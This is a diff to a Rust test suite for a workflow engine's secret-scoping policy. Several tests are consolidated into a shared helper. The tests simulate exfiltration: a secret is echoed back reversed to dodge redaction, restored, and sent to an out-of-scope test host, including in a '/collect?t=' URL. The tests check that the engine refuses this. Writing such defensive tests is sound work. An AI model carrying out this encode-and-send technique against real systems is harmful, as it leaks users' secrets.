@@ -21,15 +21,7 @@ fn policy(allowed: &[&Receiver], scope: &Receiver) -> String {
 }
 
 fn workflow(nodes: Vec<Value>) -> String {
-    let mut all = vec![json!({"identifier": "start", "config": {"type": "SELF_SERVE_TRIGGER"}})];
-    all.extend(nodes);
-    let connections: Vec<Value> = all
-        .windows(2)
-        .map(|pair| {
-            json!({"sourceIdentifier": pair[0]["identifier"], "targetIdentifier": pair[1]["identifier"]})
-        })
-        .collect();
-    json!({"identifier": "containment", "nodes": all, "connections": connections}).to_string()
+    crate::support::chain_workflow("containment", nodes)
 }
 
 fn webhook(identifier: &str, config: Value) -> Value {
@@ -131,7 +123,7 @@ fn a_dotnet_style_json_echo_is_redacted() {
 /// Node `echo` learns the value from an in-scope server that echoes it reversed (a form no
 /// redaction can recognise); node `exfil` turns it back and sends it to `other`, a host the
 /// policy allows but the secret's scope does not include, placed by `exfil_config`.
-fn moved_value_run(exfil_config: Value) -> (Scene, Run, Receiver, Receiver) {
+fn moved_value_run(exfil_config: impl Fn(&Receiver) -> Value) -> (Scene, Run, Receiver, Receiver) {
     let server = echo_server(reversed);
     let other = Receiver::start();
     let scene = Scene::new();
@@ -139,7 +131,7 @@ fn moved_value_run(exfil_config: Value) -> (Scene, Run, Receiver, Receiver) {
     config
         .as_object_mut()
         .unwrap()
-        .extend(exfil_config.as_object().unwrap().clone());
+        .extend(exfil_config(&other).as_object().unwrap().clone());
     let out = run(
         &scene,
         &workflow(vec![
@@ -168,7 +160,7 @@ fn a_value_moved_to_an_out_of_scope_host_is_refused_in_every_place_and_encoding(
         json!({"headers": {"Content-Type": "text/plain"}, "body": UNREVERSED}),
     ];
     for placement in placements {
-        let (scene, out, _server, other) = moved_value_run(placement.clone());
+        let (scene, out, _server, other) = moved_value_run(|_| placement.clone());
         out.expect_code(1);
         let json = out.json();
         let exfil = node_run(&json, "exfil");
@@ -192,33 +184,16 @@ fn a_value_moved_to_an_out_of_scope_host_is_refused_in_every_place_and_encoding(
 
 #[test]
 fn a_value_moved_into_the_url_of_an_out_of_scope_host_is_refused() {
-    let server = echo_server(reversed);
-    let other = Receiver::start();
-    let scene = Scene::new();
-    let out = run(
-        &scene,
-        &workflow(vec![
-            bearer("echo", &server.url()),
-            webhook(
-                "exfil",
-                json!({"method": "GET", "url": format!("{}/collect?t={UNREVERSED}", other.url())}),
-            ),
-        ]),
-        &policy(&[&server, &other], &server),
-        SECRET,
+    let (scene, out, _server, other) = moved_value_run(
+        |other| json!({"method": "GET", "url": format!("{}/collect?t={UNREVERSED}", other.url())}),
     );
     out.expect_code(1);
     assert_eq!(other.connections(), 0);
     let audit = scene.audit_records();
-    assert_eq!(audit.last().unwrap()["decision"], "deny");
-    assert!(
-        audit.last().unwrap()["rule"]
-            .as_str()
-            .unwrap()
-            .contains("in the request URL"),
-        "{:#}",
-        audit.last().unwrap()
-    );
+    let record = audit.last().unwrap();
+    assert_eq!(record["decision"], "deny");
+    let rule = record["rule"].as_str().unwrap();
+    assert!(rule.contains("in the request URL"), "{record:#}");
     scene.assert_no_leak(&out, SECRET);
 }
 
